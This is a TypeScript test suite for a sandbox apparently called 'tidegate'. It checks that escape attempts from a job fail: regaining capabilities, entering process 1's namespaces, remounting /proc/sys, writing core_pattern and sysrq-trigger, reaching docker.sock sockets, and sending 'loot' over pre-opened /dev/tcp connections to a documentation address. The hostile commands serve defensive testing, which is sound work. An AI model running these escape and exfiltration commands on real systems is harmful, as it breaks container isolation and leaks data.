// Ways to leave the job's namespaces, to get capabilities back, or to have somebody else speak to the network.
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { once } from 'node:events'
import { createServer } from 'node:net'
import t, { type Test } from 'tap'
import { auditPolicy, blockPolicy, tidegate } from '../e2e/behind.ts'
import { openLab, type Lab } from '../lab/lab.ts'
import { whyNoLab } from '../lab/requirements.ts'
import { until } from './machine-services.ts'
import { toldBy, tryAll, trying, type Attack } from './network-attacks.ts'

t.setTimeout(150_000)
const skip = whyNoLab()

/** The number of the system call; without a filter its null pointer is EFAULT. */
const requestKey = process.arch === 'arm64' ? 218 : 249

const refused = { told: /^[1-9]\d* / } as const
const fails = (sentence: string, command: string): Attack => [sentence, `shell ${command} 2>&1`, refused]

const capabilities: readonly Attack[] = [
  fails('N10 a link of its own', 'ip link add d0 type veth'),
  fails(
    'N10 a macvlan on the gateway’s uplink, by the wire’s namespace id',
    'ip link add m0 link-netnsid 0 link eth0 type macvlan',
  ),
  fails('N10 another address', 'ip addr add 192.0.2.10/32 dev eth0'),
  fails('N10 another route', 'ip route add 192.0.2.0/24 dev eth0'),
  fails('N10 another neighbour', 'ip neigh replace 198.19.0.9 lladdr 02:00:00:00:00:01 dev eth0'),
  fails('N10 the wire down', 'ip link set eth0 down'),
  fails('N10 a packet filter', 'nft add table inet x'),
  fails('N10 a tunnel device', 'ip tuntap add mode tun'),
  fails(
    'N10 a capability for children',
    'setpriv --bounding-set +net_admin --inh-caps +net_admin ip link add d0 type veth',
  ),
  fails('N10 an ambient capability', 'setpriv --inh-caps +net_admin --ambient-caps +net_admin true'),
  fails(
    'N10 a capability on a file',
    'cp /usr/sbin/ip $WORK/ip-cap; setcap cap_net_admin,cap_sys_admin+ep $WORK/ip-cap && $WORK/ip-cap link add d0 type veth',
  ),
  fails(
    'N10 a set-user-id file',
    'cp /usr/sbin/ip $WORK/ip-suid; chmod 4755 $WORK/ip-suid; setpriv --reuid=65534 --clear-groups $WORK/ip-suid link add d0 type veth',
  ),
  fails('N10 a user namespace over the same network', 'unshare -Ur ip link add d0 type veth'),
  fails(
    'N11 a wire into the job from a network namespace of its own',
    'unshare -Urn ip link add a type veth peer name b netns 1',
  ),
  ['N11 a network namespace of its own', 'shell unshare -Urn curl -sm2 http://203.0.113.66/ 2>&1', { told: /^7 / }],
  fails('N11 the network namespace of process 1', 'nsenter --target=1 --net true'),
  fails('N11 the file system of process 1', 'nsenter --target=1 --mount true'),
  ['N11 the root of process 1 is the job’s own', 'shell cat /proc/1/root/proc/1/comm', { told: '0 tini' }],
  fails('N11 the network namespace of the gateway', 'nsenter --net=/run/netns/$(ls /run/netns) true'),
  ['N11 a descriptor that leads out', 'descriptors', { told: [] }],
  ['N11 a folder by its number', 'by-handle', { told: 'EPERM' }],
  ['AF_VSOCK', 'stream-family 40', { told: 'EAFNOSUPPORT' }],
  ['AF_VSOCK by the 32-bit table', 'call32 359 40 1', { told: /EAFNOSUPPORT|no such table/ }],
  ['sockets by socketcall', 'call32 102 1 0', { told: /ENOSYS|no such table/ }],
  ['io_uring', 'call 425 8 0', { told: 'ENOSYS' }],
  ['a key that the kernel would have fetched outside', `call ${requestKey} 0 0`, { told: 'ENOSYS' }],
  ['a tunnel device by its file', 'tun', { told: /^E(PERM|NOENT|ACCES)$/ }],
]

const files: readonly Attack[] = [
  fails('a mount', 'mount -t tmpfs x /mnt'),
  fails('/run uncovered', 'umount /run'),
  fails('/run uncovered, in a user namespace', 'unshare -Urm umount /run'),
  fails('the root without what covers it', 'unshare -Urm sh -c "mount --bind / /mnt && ls /mnt/run/docker.sock"'),
  fails('/run moved away', 'unshare -Urm mount --move /run /mnt'),
  fails('a resolver of its own for all', 'umount /etc/resolv.conf'),
  fails('/proc/sys made writable', 'mount -o remount,rw,bind /proc/sys'),
  fails('the same in a user namespace', 'unshare -Urm mount -o remount,rw,bind /proc/sys'),
  fails('a fresh /proc', 'unshare -Urmpf mount -t proc x /mnt'),
  fails('a fresh /sys', 'unshare -Urmn mount -t sysfs x /mnt'),
  fails('a program for crashes', 'sh -c "echo x >/proc/sys/kernel/core_pattern"'),
  fails('forwarding', 'sh -c "echo 1 >/proc/sys/net/ipv4/ip_forward"'),
  fails('IPv6 on the wire', 'sh -c "echo 0 >/proc/sys/net/ipv6/conf/eth0/disable_ipv6"'),
  fails('the keyboard’s last resort', 'sh -c "echo h >/proc/sysrq-trigger"'),
  fails('a helper for events', 'sh -c "echo x >/sys/kernel/uevent_helper"'),
  fails('a control group', 'mkdir /sys/fs/cgroup/tidegate-test'),
  fails('a device node', 'mknod $WORK/node c 1 5'),
  fails('a kernel module', 'insmod /nonexistent'),
  fails('what the job was given of trust', 'sh -c "echo x >/run/tidegate/ca.crt"'),
]

t.test('N10, N11: no capability comes back, and no namespace leads out', { skip }, async t => {
  await using lab = await openLab({ services: [] })
  const work = lab.file('work')
  mkdirSync(work)
  for (const [mode, policy] of [
    ['block', blockPolicy([])],
    ['audit', auditPolicy],
  ] as const) {
    await t.test(mode, async t => {
      await tryAll(t, lab, policy, [...capabilities, ...files], { env: { WORK: work } })
      t.strictSame(await lab.uplink.packets(), [])
    })
  }
})

/** Runs a job under a shell of the host that prepares something first, and leaves what it does to `"$@"`. */
async function prepared(
  lab: Lab,
  script: string,
  attacks: readonly string[],
  env: Readonly<Record<string, string>> = {},
) {
  const policy = lab.file('policy.yaml')
  writeFileSync(policy, blockPolicy([]))
  const run = [tidegate, 'run', '--policy', policy, '--out', lab.file('out'), '--', ...trying(attacks)]
  return lab.host.exec('unshare', ['--mount', 'bash', '-c', `set -e; ${script}; exec "$@"`, 'bash', ...run], { env })
}

t.test('N13: sockets of the machine’s services are out of reach, by every path', { skip }, async t => {
  await using lab = await openLab({ services: [] })
  const [inRun, inTmp] = ['/run/tidegate-test-', '/tmp/tidegate-test-'].map(prefix => mkdtempSync(prefix))
  if (inRun === undefined || inTmp === undefined) throw new Error('no folder')
  const listening = [`${inRun}/docker.sock`, `${inTmp}/docker.sock`].map(path =>
    createServer(it => it.end('engine')).listen(path),
  )
  await Promise.all(listening.map(server => once(server, 'listening')))
  // Engines in a network namespace that no list of sockets shows.
  const other = lab.file('other')
  const named = lab.file('named')
  const elsewhere = lab.file('elsewhere')
  for (const folder of [other, named, elsewhere, lab.file('run-too'), lab.file('proc'), lab.file('tmp-too')])
    mkdirSync(folder)
  writeFileSync(lab.file('engine'), '')
  const away = [`${other}/docker.sock`, `${named}/any`, `${elsewhere}/engine`]
  for (const path of away)
    lab.internet.spawn('socat', [`UNIX-LISTEN:${path},fork`, 'SYSTEM:echo engine'], { stdio: 'ignore' })
  lab.host.spawn('socat', ['ABSTRACT-LISTEN:tidegate-test,fork', 'SYSTEM:echo engine'], { stdio: 'ignore' })
  await until(() => away.every(path => existsSync(path)))
  const script = [
    `mount --bind /run '${lab.file('run-too')}'`,
    `mount --bind '${inTmp}' '${lab.file('tmp-too')}'`,
    `mount --bind '${other}' '${other}'`,
    `mount --bind '${elsewhere}/engine' '${lab.file('engine')}'`,
    `mount -t proc proc '${lab.file('proc')}'`,
  ]
  const paths = [
    `${inRun}/docker.sock`,
    `${lab.file('run-too')}${inRun.slice('/run'.length)}/docker.sock`,
    `${inTmp}/docker.sock`,
    `${lab.file('tmp-too')}/docker.sock`,
    `${other}/docker.sock`,
    `${named}/any`,
    lab.file('engine'),
    `${elsewhere}/engine`,
    '@tidegate-test',
  ]
  const attacks = [...paths.map(path => `unix ${path}`), `shell cat ${lab.file('proc')}/1/comm`]
  const { stdout, stderr, exitCode } = await prepared(lab, script.join('; '), attacks, {
    DOCKER_HOST: `unix://${named}/any`,
  })
  t.equal(exitCode, 0, stderr)
  const told = toldBy(stdout)
  for (const [index, path] of paths.entries()) t.match(told[index], /^E(CONNREFUSED|NOENT|NOTSOCK)$/, path)
  t.equal(told.at(-1), '0 tini', 'a second /proc shows the job’s own processes')
  for (const server of listening) server.close()
  for (const folder of [inRun, inTmp]) rmSync(folder, { recursive: true })
})

t.test('N19: a connection that was open before is not the job’s', { skip }, async t => {
  await using lab = await openLab()
  const script = 'exec 7<>/dev/tcp/203.0.113.66/4444; exec 8<>/dev/udp/203.0.113.66/4444; echo before >&7'
  const { stdout, exitCode, stderr } = await prepared(lab, script, [
    'shell echo loot-by-tcp >&7',
    'shell echo loot-by-udp >&8',
    'descriptors',
  ])
  t.equal(exitCode, 0, stderr)
  t.match(toldBy(stdout), [/^[1-9]/, /^[1-9]/, []])
  t.equal(await lab.sink.contains('before'), true, 'it was open')
  t.equal(await lab.sink.contains('loot-by'), false, 'and did not carry anything of the job')
})

t.test('N20: a build whose wire is not proved does not start', { skip }, async t => {
  await using lab = await openLab({ services: [] })
  const marker = lab.file('started')
  const job = ['--policy', lab.file('policy.yaml'), '--out', lab.file('out'), '--', 'touch', marker]
  writeFileSync(lab.file('policy.yaml'), blockPolicy([]))
  await notStarted(
    t,
    lab,
    marker,
    job,
    'a firewall that drops what enters',
    'chain inet fw in { type filter hook input priority 10; policy drop; }',
  )
  await notStarted(
    t,
    lab,
    marker,
    job,
    'a firewall that drops answers',
    'chain inet fw out { type filter hook output priority 10; policy drop; }',
  )
  t.equal((await lab.host.exec(tidegate, ['run', ...job])).exitCode, 0)
  t.ok(existsSync(marker), 'without the firewall it starts')
})

async function notStarted(
  t: Test,
  lab: Lab,
  marker: string,
  job: readonly string[],
  what: string,
  chain: string,
): Promise<void> {
  await lab.host.exec('nft', [`add table inet fw; add ${chain}`])
  const { exitCode, stderr } = await lab.host.exec(tidegate, ['run', ...job])
  t.equal(exitCode, 125, what)
  t.match(stderr, /^tidegate: the wire is not proved: /)
  t.notOk(existsSync(marker), 'the command was not started')
  await lab.host.exec('nft', ['delete table inet fw'])
}
